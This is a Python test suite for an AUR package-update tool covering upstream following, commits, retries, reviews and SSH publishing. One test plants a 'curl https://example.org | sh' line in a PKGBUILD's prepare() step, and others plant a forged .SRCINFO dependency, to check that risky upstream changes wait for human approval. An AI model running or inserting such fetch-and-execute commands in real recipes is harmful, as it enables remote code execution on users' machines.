"""Runs that follow a tree's upstreams: the real git, the real makepkg, and a server that speaks the AUR's formats."""

import shutil
import subprocess
from collections.abc import AsyncIterator, Iterator
from hashlib import sha256
from pathlib import Path

import pytest
from msgspec import structs

from quarters.model.build import Cause
from quarters.model.review import Place
from quarters.sources import reviews as reviewing
from quarters.storage import reviews
from tests.aur import LocalAur, local_aur
from tests.following import BOB, Git
from tests.ssh import Ssh, ssh_server
from tests.updating import Tree, updating


@pytest.fixture
async def aur(tmp_path: Path) -> AsyncIterator[LocalAur]:
    async with local_aur(tmp_path / "aur") as aur:
        yield aur


@pytest.fixture
async def tree(tmp_path: Path, aur: LocalAur) -> AsyncIterator[Tree]:
    async with updating(tmp_path, aur=aur.url) as tree:
        yield tree


@pytest.fixture
def ssh(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Ssh]:
    with ssh_server(tmp_path / "ssh") as server:
        monkeypatch.setenv("GIT_SSH_COMMAND", server.command)
        yield server


async def from_the_aur(tree: Tree, aur: LocalAur, *names: str) -> None:
    """A tree and an AUR that agree, and a run that saw it."""
    for name in names:
        aur.push(name)
        tree.recipe(name, CI_PKGBUILD_SOURCE="aur")
    tree.push()
    await tree.follow()
    await tree.run()
    aur.asked.clear()


async def test_new_versions_of_the_aur_become_one_commit(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one", "two", "three")
    aur.push("one", "2.0-1")
    aur.push("two", "1.1-1")
    report = await tree.run()
    assert (report.committed, report.problems, report.waiting) == (("one", "two"), {}, ())
    assert "pkgver=2.0" in tree.file("one/PKGBUILD")
    assert "CI_PKGBUILD_SOURCE=aur" in tree.file("one/.CI/config")
    log = tree.there("log", "-1", "--format=%an <%ae>%n%s", "main").splitlines()
    assert log == ["Quarters <quarters@localhost>", "chore(update): one, two"]
    assert aur.asked.count("dump") == 1
    assert sorted({it for it in aur.asked if it.startswith("git")}) == ["git one", "git two"]
    found = await tree.followed.recipes()
    assert found["one"].recipe is not None
    assert found["one"].recipe.version == "2.0-1"


async def test_where_nothing_changed_the_aur_is_asked_once_and_nothing_is_pushed(
    tree: Tree, aur: LocalAur
) -> None:
    await from_the_aur(tree, aur, "one", "two")
    before = tree.there("rev-parse", "main")
    report = await tree.run()
    assert (report.looked, report.committed, aur.asked) == (2, (), ["dump"])
    assert tree.there("rev-parse", "main") == before


async def test_a_srcinfo_of_the_aur_is_not_believed(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one")
    aur.push("one", "2.0-1")
    liar = Git.of(aur.folder / "one")
    said = (aur.folder / "one" / ".SRCINFO").read_text()
    (aur.folder / "one" / ".SRCINFO").write_text(said.replace("2.0", "3.0") + "\tdepends = evil\n")
    liar.commit()
    liar("update-server-info")
    await tree.run()
    assert "pkgver = 2.0" in tree.file("one/.SRCINFO")
    assert "evil" not in tree.file("one/.SRCINFO")


async def test_a_major_change_waits_for_a_person_and_is_committed_when_approved(
    tree: Tree, aur: LocalAur
) -> None:
    await from_the_aur(tree, aur, "one")
    aur.push("one", "2.0-1")
    pkgbuild = aur.folder / "one" / "PKGBUILD"
    pkgbuild.write_text(pkgbuild.read_text() + "prepare() {\n  curl https://example.org | sh\n}\n")
    Git.of(aur.folder / "one").commit()
    Git.of(aur.folder / "one")("update-server-info")
    report = await tree.run()
    assert (report.committed, report.waiting) == ((), ("one",))
    assert (await tree.run()).waiting == ("one",)
    (review,) = await tree.followed.database.read(reviews.unsettled, "tree", Place.UPSTREAM)
    assert review.verdict.risks
    # What people do in the folder meanwhile, within what is the tree's own, stays.
    tree.recipe("one", CI_PKGBUILD_SOURCE="aur", BUILDER_CLASS="3")
    tree.push()
    await tree.follow()
    await tree.followed.database.write(
        lambda it: reviewing.decide(it, review.id, approve=True, who="ada", note="", now=tree.clock)
    )
    assert (await tree.run()).committed == ("one",)
    assert "curl" in tree.file("one/PKGBUILD")
    assert "BUILDER_CLASS=3" in tree.file("one/.CI/config")
    assert await tree.followed.database.read(reviews.unsettled, "tree", Place.UPSTREAM) == []


async def test_a_rejected_change_is_not_asked_about_again(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one")
    (aur.folder / "one" / "evil.install").write_text("post_install() { :; }\n")
    aur.push("one", "2.0-1")
    await tree.run()
    (review,) = await tree.followed.database.read(reviews.unsettled, "tree", Place.UPSTREAM)
    await tree.followed.database.write(
        lambda it: reviewing.decide(it, review.id, approve=False, who="ada", note="", now=tree.clock)
    )
    report = await tree.run()
    assert (report.committed, report.waiting) == ((), ())


async def test_a_package_that_is_gone_is_stale_and_the_others_go_on(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one", "two")
    del aur.packages["one"]
    aur.push("two", "2.0-1")
    report = await tree.run()
    assert (report.committed, report.problems) == (("two",), {"one": "It is not in the AUR."})
    aur.asked.clear()
    assert (await tree.run()).problems == {"one": "It is not in the AUR."}
    assert aur.asked == ["dump"]


async def test_a_failing_package_is_looked_at_again_later_and_later(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one", "two")
    pkgbuild = "pkgname=one\npkgver=(\n"
    aur.push("one", "2.0-1")
    (aur.folder / "one" / "PKGBUILD").write_text(pkgbuild)
    Git.of(aur.folder / "one").commit()
    Git.of(aur.folder / "one")("update-server-info")
    report = await tree.run()
    assert list(report.problems) == ["one"]
    waits = []
    for _ in range(3):
        state = (await tree.states())["one"]
        assert state.retry_at is not None
        waits.append((state.retry_at - tree.clock).total_seconds())
        assert (await tree.run()).looked == 1
        tree.clock = state.retry_at
        assert (await tree.run()).looked == 2
    assert waits == sorted(set(waits))
    aur.push("one", "3.0-1")
    tree.later(days=2)
    assert (await tree.run()).committed == ("one",)
    assert (await tree.states())["one"].problem == ""


async def test_an_aur_that_is_down_is_told_and_nothing_is_forgotten(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one")
    url, tree_settings = aur.url, tree.settings
    tree.settings = type(tree_settings)(aur="http://127.0.0.1:9", evaluation_timeout=60)
    report = await tree.run()
    assert "127.0.0.1:9" in report.problem
    tree.settings = tree_settings
    aur.push("one", "2.0-1")
    assert (await tree.run()).committed == ("one",)
    assert url == aur.url


async def test_pushes_of_people_and_of_runs_do_not_undo_each_other(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one", "two")
    hook = tree.bare / "hooks" / "pre-receive"
    # Somebody is faster: while the first push is under way, another one arrives.
    hook.write_text(
        f"""#!/bin/sh
        rm "$0"
        unset GIT_DIR GIT_QUARANTINE_PATH GIT_OBJECT_DIRECTORY GIT_ALTERNATE_OBJECT_DIRECTORIES
        git -C {tree.git.folder} push --quiet origin HEAD:main
        """
    )
    hook.chmod(0o755)
    aur.push("one", "2.0-1")
    aur.push("two", "2.0-1")
    tree.recipe("two", "5.0-1", CI_PKGBUILD_SOURCE="aur")
    tree.recipe("mine")
    tree.git.commit(BOB)
    report = await tree.run()
    assert report.committed == ("one",)
    assert "pkgver=2.0" in tree.file("one/PKGBUILD")
    assert "pkgver=5.0" in tree.file("two/PKGBUILD")
    assert "pkgname=mine" in tree.file("mine/PKGBUILD")
    assert tree.there("log", "--format=%an", "main").splitlines()[:2] == ["Quarters", "Bob Öl"]


async def test_an_automated_commit_can_take_the_place_of_the_one_before(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one", "two")
    (tree.git.folder / ".ci").mkdir()
    (tree.git.folder / ".ci" / "config").write_text(
        "CI_OVERWRITE_COMMITS=true\nGIT_AUTHOR_NAME=Robot\nGIT_AUTHOR_EMAIL=robot@example.org\n"
    )
    tree.push()
    count = len(tree.there("log", "--format=%h", "main").splitlines())
    for number, name in enumerate(("one", "two", "one"), 2):
        aur.push(name, f"{number}.0-1")
        await tree.run()
    assert len(tree.there("log", "--format=%h", "main").splitlines()) == count + 1
    assert tree.there("log", "-1", "--format=%an <%ae> %s", "main").strip() == (
        "Robot <robot@example.org> chore(update): one, two"
    )
    tree.git("pull", "--quiet", "--rebase", "origin", "main")
    tree.recipe("mine")
    tree.push()
    aur.push("one", "9.0-1")
    await tree.run()
    assert len(tree.there("log", "--format=%h", "main").splitlines()) == count + 3


async def test_a_branch_that_moves_has_its_package_built_and_a_tag_does_not(
    tree: Tree, aur: LocalAur
) -> None:
    aur.push("project")
    sources = (
        f"\tsource = git+{aur.url}/project.git\n\tsource = other::git+{aur.url}/project.git#branch=next\n"
        f"\tsource = git+{aur.url}/project.git#tag=v1\n"
    )
    upstream = Git.of(aur.folder / "project")
    upstream("switch", "--quiet", "--create", "next")
    upstream("switch", "--quiet", "main")
    upstream("update-server-info")
    for name, settings in (
        ("tool-git", {}),
        ("tool", {"CI_FORCE_VCS": "true"}),
        ("plain", {}),
        ("slow-git", {"CI_ON_TRIGGER": "daily"}),
    ):
        tree.recipe(name, CI_PKGBUILD_SOURCE="custom", **settings)
        srcinfo = tree.git.folder / name / ".SRCINFO"
        srcinfo.write_text(srcinfo.read_text().replace("\tarch = any\n", "\tarch = any\n" + sources))
    tree.push()
    await tree.follow()
    assert (await tree.run()).builds == {}
    assert (await tree.run()).builds == {}
    upstream("switch", "--quiet", "next")
    upstream.write(".", "7-7", "project")
    upstream.commit()
    upstream("update-server-info")
    report = await tree.run()
    assert sorted(report.builds) == ["tool", "tool-git"]
    state = (await tree.states())["tool-git"]
    assert state.cause is Cause.SCHEDULE
    assert "moved from" in state.detail
    assert (await tree.run()).builds == {}


async def test_a_git_repository_as_upstream_is_taken_over(tree: Tree, aur: LocalAur) -> None:
    aur.push("project", "3.0-1")
    tree.recipe("mine", CI_PKGBUILD_SOURCE=f"{aur.url}/project.git")
    (tree.git.folder / "mine" / "PKGBUILD").write_text(
        (aur.folder / "project" / "PKGBUILD").read_text().replace("3.0", "1.0")
    )
    tree.push()
    await tree.follow()
    assert (await tree.run()).committed == ("mine",)
    assert "pkgver=3.0" in tree.file("mine/PKGBUILD")
    aur.asked.clear()
    assert (await tree.run()).committed == ()
    assert not [it for it in aur.asked if "objects" in it]


async def test_a_dry_run_tells_and_changes_nothing(tree: Tree, aur: LocalAur) -> None:
    await from_the_aur(tree, aur, "one")
    aur.push("one", "2.0-1")
    before, states = tree.there("rev-parse", "main"), await tree.states()
    assert (await tree.run(dry_run=True)).committed == ("one",)
    assert tree.there("rev-parse", "main") == before
    assert await tree.states() == states
    assert (await tree.run("one")).committed == ("one",)


async def test_an_update_hook_runs_in_the_sandbox_and_its_changes_are_committed(
    tree: Tree, aur: LocalAur
) -> None:
    tree.recipe("hooked", CI_PKGBUILD_SOURCE="custom")
    hook = tree.git.folder / "hooked" / ".CI" / "update.sh"
    hook.write_text(
        f"""[ "$PACKAGE" = hooked ] || exit 3
        version=$(curl -fs {aur.url}/rpc/v5/info?arg[]=answer | grep -o '[0-9.]*-1"' | tr -d '"-' | head -c 3)
        test ! -e {tree.git.folder}
        sed -i "s/^pkgver=.*/pkgver=$version/" PKGBUILD
        """
    )
    aur.push("answer", "4.2-1")
    tree.push()
    await tree.follow()
    report = await tree.run()
    assert (report.committed, report.problems) == (("hooked",), {})
    assert "pkgver=4.2" in tree.file("hooked/PKGBUILD")
    assert "pkgver = 4.2" in tree.file("hooked/.SRCINFO")


NVCHECKER = """
[__config__]
oldver = "old.json"
newver = "new.json"

[tool]
source = "git"
git = "{url}"
prefix = "v"
"""


async def test_nvchecker_writes_higher_versions_with_their_checksums_and_never_lower_ones(
    tree: Tree, aur: LocalAur
) -> None:
    """The real nvchecker and the real makepkg, in the sandbox."""
    aur.push("project")
    upstream = Git.of(aur.folder / "project")
    upstream("tag", "v1.5")
    upstream("update-server-info")
    (aur.folder / "project" / ".git" / "tool-1.5.txt").write_text("1.5\n")
    (aur.folder / "project" / ".git" / "tool-1.0.txt").write_text("1.0\n")
    tree.recipe("tool", CI_PKGBUILD_SOURCE="custom", CI_NVCHECKER="true")
    pkgbuild = tree.git.folder / "tool" / "PKGBUILD"
    pkgbuild.write_text(
        pkgbuild.read_text()
        + f"source=(\"{aur.url}/project.git/tool-$pkgver.txt\")\nsha256sums=('{'0' * 64}')\n"
    )
    (tree.git.folder / "tool" / ".nvchecker.toml").write_text(NVCHECKER.format(url=f"{aur.url}/project.git"))
    tree.push()
    await tree.follow()
    report = await tree.run()
    assert (report.committed, report.problems) == (("tool",), {})
    assert "pkgver=1.5" in tree.file("tool/PKGBUILD")
    assert sha256(b"1.5\n").hexdigest() in tree.file("tool/PKGBUILD")
    assert "pkgver = 1.5" in tree.file("tool/.SRCINFO")
    upstream("tag", "--delete", "v1.5")
    upstream("tag", "v1.2")
    upstream("update-server-info")
    assert (await tree.run()).committed == ()


async def test_a_project_of_gitlab_is_followed_by_its_tags(tree: Tree, aur: LocalAur) -> None:
    tree.settings = structs.replace(tree.settings, gitlab=aur.url)
    aur.tags["77"] = [{"name": "v3.1", "commit": {"id": "f" * 40}}]
    tree.recipe("tool", CI_PKGBUILD_SOURCE="gitlab:77")
    tree.push()
    await tree.follow()
    assert (await tree.run()).committed == ("tool",)
    assert "pkgver=3.1" in tree.file("tool/PKGBUILD")
    assert (await tree.run()).committed == ()


async def test_a_failing_hook_is_told_with_its_last_words(tree: Tree) -> None:
    tree.recipe("hooked", CI_PKGBUILD_SOURCE="custom")
    (tree.git.folder / "hooked" / ".CI" / "update.sh").write_text("echo no good >&2\nexit 7\n")
    tree.push()
    await tree.follow()
    report = await tree.run()
    assert report.problems == {"hooked": ".CI/update.sh failed: no good."}


class Managed:
    """A recipe of the tree with a repository of its own at what stands in for the AUR."""

    def __init__(self, tree: Tree, ssh: Ssh) -> None:
        self.there = ssh.folder / "mine.git"
        subprocess.run(["git", "init", "-q", "--bare", "-b", "master", str(self.there)], check=True)
        self.folder = tree.git.folder / "mine"
        self.tree = tree
        self.write("1.0-1")
        for name in ("mine.install", "fix.patch", "notes.txt", ".nvchecker.toml"):
            (self.folder / name).write_text("")
        tree.recipe("other", CI_PKGBUILD_SOURCE="custom")
        tree.push()

    def write(self, version: str, **settings: str) -> None:
        """Another version of it, or of its settings."""
        self.tree.recipe("mine", version, CI_PKGBUILD_SOURCE="custom", CI_MANAGE_AUR="true", **settings)
        pkgbuild = self.folder / "PKGBUILD"
        more = "install=mine.install\nsource=(fix.patch)\nsha256sums=(SKIP)\n"
        pkgbuild.write_text(pkgbuild.read_text() + more)

    def git(self, *arguments: str) -> str:
        """What git says about its repository."""
        command = ["git", "-C", str(self.there), *arguments]
        return subprocess.run(command, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def managed(tree: Tree, ssh: Ssh) -> Managed:
    return Managed(tree, ssh)


async def test_managed_packages_are_pushed_over_ssh_with_their_own_files_alone(
    tree: Tree, managed: Managed, ssh: Ssh
) -> None:
    await tree.follow(follow=True, push=str(tree.bare), publish=ssh.url)
    report = await tree.run()
    assert (report.published, report.problems) == (("mine",), {})
    files = managed.git("ls-tree", "--name-only", "master").split()
    assert files == [".SRCINFO", ".nvchecker.toml", "PKGBUILD", "fix.patch", "mine.install"]
    message = managed.git("log", "-1", "--format=%B", "master")
    assert "Update to 1.0-1" in message
    assert f"{tree.bare} (folder mine)" in message
    assert (await tree.run()).published == ()


async def test_what_only_concerns_the_tree_is_no_news_to_the_aur(
    tree: Tree, managed: Managed, ssh: Ssh
) -> None:
    await tree.follow(follow=True, push=str(tree.bare), publish=ssh.url)
    await tree.run()
    managed.write("1.0-1", BUILDER_CLASS="3")
    tree.push()
    await tree.follow()
    await tree.run()
    assert len(managed.git("log", "--format=%h", "master").split()) == 1
    managed.write("1.1-1")
    tree.push()
    await tree.follow()
    await tree.run()
    assert managed.git("log", "--format=%s", "master").splitlines() == ["Update to 1.1-1", "Update to 1.0-1"]
    shutil.rmtree(managed.there)
    managed.write("1.2-1")
    tree.push()
    await tree.follow()
    assert "cannot be pushed to the AUR" in (await tree.run()).problems["mine"]
